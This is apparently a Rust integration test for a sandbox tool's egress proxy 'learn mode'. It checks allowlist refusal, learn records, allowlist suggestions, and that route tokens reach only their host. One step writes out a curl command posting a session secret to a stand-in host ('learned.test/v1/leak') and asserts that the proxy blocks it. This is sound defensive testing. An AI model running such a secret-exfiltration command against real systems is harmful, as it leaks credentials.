//! Learn mode in a real bottle on the real engine: with `--learn` the agent reaches a host off the
//! allowlist, the learn record written at teardown has it and `bottle allowlist suggest` prints
//! it; without `--learn` the same request is refused. In learn mode a route's token still goes only
//! to the route's host, and a bottle secret on its way to the learned host is still refused.
//!
//! The stand-in upstream (`tests/docker/upstream`) answers as `upstream.test` (a credential
//! route) and `learned.test` (on no allowlist) on the bottle's egress network.

mod common;

use bollard::query_parameters::RemoveContainerOptionsBuilder;
use common::*;

/// A route to upstream.test lending a token for reads and `POST`s under `/v1/`; no allowlist.
fn write_learn_bottle(bottle: &TestBottle, ca: &str) {
    let ca_path = bottle.write("upstream-ca.pem", ca);
    bottle.write(
        "bottles/test.md",
        &format!(
            "---\nenv:\n  SESSION_SECRET: \"?\"\negress_proxy:\n  routes:\n    - host: upstream.test\n      \
             auth: {{scheme: Bearer, token_ref: ROUTE_TOKEN}}\n      methods: [GET, POST]\n      \
             path_allowlist: [/v1/]\n  upstream_ca: [{}]\n  \
             allow_cidrs: [172.16.0.0/12, 192.168.0.0/16, 10.0.0.0/8]\n---\n",
            ca_path.display()
        ),
    );
}

/// `bottle start <agent> --detach --yes --no-claude-code <extra>`, answering the prompted secret.
fn start(bottle: &TestBottle, extra: &[&str]) -> std::process::Output {
    let agent = bottle.agent.get().unwrap().clone();
    let mut args = vec!["start", &agent, "--detach", "--yes", "--no-claude-code"];
    args.extend_from_slice(extra);
    run_with_stdin(bottle.command(&args), &format!("{PROMPTED_SECRET}\n"))
}

/// The stand-in, as both names, on the bottle's egress network.
fn upstream(bottle: &TestBottle, identity: &str, image: &str, cert: &str, key: &str) -> String {
    let files = [
        file("/srv/cert.pem", 0o644, (0, 0), cert),
        file("/srv/key.pem", 0o600, (0, 0), key),
    ];
    start_on_egress_as(
        bottle,
        identity,
        (
            "bottle-test-learn",
            image,
            &["upstream.test", "learned.test"],
        ),
        &files,
        None,
    )
}

fn remove(bottle: &TestBottle, container: &str) {
    let options = RemoveContainerOptionsBuilder::default().force(true).build();
    rt().block_on(bottle.docker.remove_container(container, Some(options)))
        .unwrap();
}

/// `curl` in the agent: the HTTP status, a space, the answer's first bytes.
fn curl(bottle: &TestBottle, identity: &str, args: &str, url: &str) -> String {
    let script = format!(
        "rm -f /tmp/answer; code=$(curl -sS --max-time 10 -o /tmp/answer {args} -w '%{{http_code}}' {url} || true); \
         echo \"$code $(head -c 2000 /tmp/answer 2>/dev/null)\""
    );
    text(&bottle.exec_in_agent(identity, &script))
}

/// Wait until the stand-in answers through the proxy on the route (it starts after the bottle).
fn wait_for_upstream(bottle: &TestBottle, identity: &str) {
    for _ in 0..50 {
        if curl(bottle, identity, "", "https://upstream.test/v1/ready").contains("\"method\"") {
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    panic!("the stand-in never answered through the proxy");
}

/// The paths the stand-in read whole so far.
fn arrived_paths(bottle: &TestBottle, upstream: &str) -> Vec<String> {
    container_stdout(bottle, upstream)
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter_map(|v| v["path"].as_str().map(str::to_owned))
        .collect()
}

/// The JSON the stand-in echoed, from a [`curl`] result.
fn echoed(result: &str) -> serde_json::Value {
    let json = result.split_once(' ').map_or("", |(_, rest)| rest);
    serde_json::from_str(json).unwrap_or_else(|e| panic!("{e}: {result}"))
}

#[test]
fn learn_mode_allows_records_and_suggests_what_is_refused_without_it() {
    let Some(bottle) = TestBottle::new("learn") else {
        return;
    };
    let (ca, cert, key) = test_certificates(&["upstream.test", "learned.test"]);
    write_learn_bottle(&bottle, &ca);
    let image = build_test_image(&bottle.docker, "upstream", "bottle-test/upstream:latest");

    // No record yet: a clear error naming the command that makes one.
    let none = bottle.bottle(&["allowlist", "suggest", "nobody"]);
    assert!(!none.status.success());
    assert!(
        text(&none).contains("no learn record for `nobody`")
            && text(&none).contains("bottle start --learn"),
        "{}",
        text(&none)
    );

    // Without --learn: the route answers (the probe) and the host off the allowlist is refused.
    let started = start(&bottle, &[]);
    assert!(!text(&started).contains("LEARN MODE"), "{}", text(&started));
    let identity = identity_of(&started);
    let stand_in = upstream(&bottle, &identity, &image, &cert, &key);
    wait_for_upstream(&bottle, &identity);
    let refused = curl(
        &bottle,
        &identity,
        "",
        "https://learned.test/v1/learned/a/b",
    );
    // The proxy refuses the tunnel itself (curl reports the CONNECT's status).
    assert!(
        refused.contains("CONNECT tunnel failed, response 403"),
        "{refused}"
    );
    assert!(!arrived_paths(&bottle, &stand_in).contains(&"/v1/learned/a/b".to_owned()));
    assert!(bottle.bottle(&["stop", &identity]).status.success());
    remove(&bottle, &stand_in);
    let nothing = bottle.bottle(&["allowlist", "suggest", &identity]);
    assert!(
        !nothing.status.success(),
        "a run without --learn records nothing"
    );

    // With --learn: said in the preflight and the banner, and the same request arrives.
    let started = start(&bottle, &["--learn"]);
    let shown = text(&started);
    assert!(shown.contains("LEARN MODE"), "{shown}");
    assert!(
        shown
            .lines()
            .any(|l| l.starts_with("preflight:") && l.contains("LEARN MODE")),
        "{shown}"
    );
    assert!(!shown.contains("\x1b["), "no colour without a terminal");
    let identity = identity_of(&started);
    let stand_in = upstream(&bottle, &identity, &image, &cert, &key);
    wait_for_upstream(&bottle, &identity);
    let learned = curl(
        &bottle,
        &identity,
        "",
        "https://learned.test/v1/learned/a/b",
    );
    assert!(learned.starts_with("200 "), "{learned}");
    // The route's host gets a credential (the agent sent none); the learned host gets none.
    let routed = curl(&bottle, &identity, "", "https://upstream.test/v1/routed");
    assert!(
        echoed(&routed)["headers"].get("authorization").is_some(),
        "{routed}"
    );
    assert!(
        echoed(&learned)["headers"].get("authorization").is_none(),
        "{learned}"
    );
    // Learn mode is no exfiltration window: the clean body arrives, the secret does not.
    let clean = curl(
        &bottle,
        &identity,
        "--data note=clean",
        "https://learned.test/v1/clean",
    );
    assert!(clean.starts_with("200 "), "{clean}");
    let leak = curl(
        &bottle,
        &identity,
        "--data leak=$SESSION_SECRET",
        "https://learned.test/v1/leak",
    );
    assert!(leak.starts_with("403 "), "{leak}");
    let paths = arrived_paths(&bottle, &stand_in);
    assert!(paths.contains(&"/v1/clean".to_owned()), "{paths:?}");
    assert!(!paths.contains(&"/v1/leak".to_owned()), "{paths:?}");
    let stopped = bottle.bottle(&["stop", &identity]);
    assert!(stopped.status.success(), "{}", text(&stopped));
    remove(&bottle, &stand_in);

    // The record, and the suggestion ready to paste.
    let suggested = bottle.bottle(&["allowlist", "suggest", &identity]);
    let yaml = text(&suggested);
    assert!(suggested.status.success(), "{yaml}");
    assert!(yaml.contains("\"learned.test\"  # learned"), "{yaml}");
    assert!(yaml.contains("host: \"upstream.test\""), "{yaml}");
    let front = String::from_utf8(suggested.stdout.clone()).unwrap();
    let parsed: yaml_serde::Value = yaml_serde::from_str(&front).unwrap();
    assert_eq!(parsed["egress"]["allowlist"][0], "learned.test", "{front}");
    let route = &parsed["egress_proxy"]["routes"][0];
    assert_eq!(route["host"], "upstream.test");
    let route_paths: Vec<&str> = route["path_allowlist"]
        .as_sequence()
        .unwrap()
        .iter()
        .filter_map(|p| p.as_str())
        .collect();
    assert!(route_paths.contains(&"/v1/routed"), "{front}");
    assert!(!front.contains(PROMPTED_SECRET) && !front.contains(ROUTE_TOKEN));
    let json = bottle.bottle(&["allowlist", "suggest", &identity, "--format", "json"]);
    let value: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    let learned_entry = value["allowlist"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["pattern"] == "learned.test")
        .unwrap_or_else(|| panic!("{value:#}"));
    assert_eq!(learned_entry["learned"], true);
    // The refused request carrying the secret is not among what was learned.
    let record =
        std::fs::read_to_string(bottle.path().join("learn").join(format!("{identity}.json")))
            .unwrap();
    assert!(!record.contains("/v1/leak") && !record.contains(PROMPTED_SECRET));
    bottle.assert_nothing_left();
}
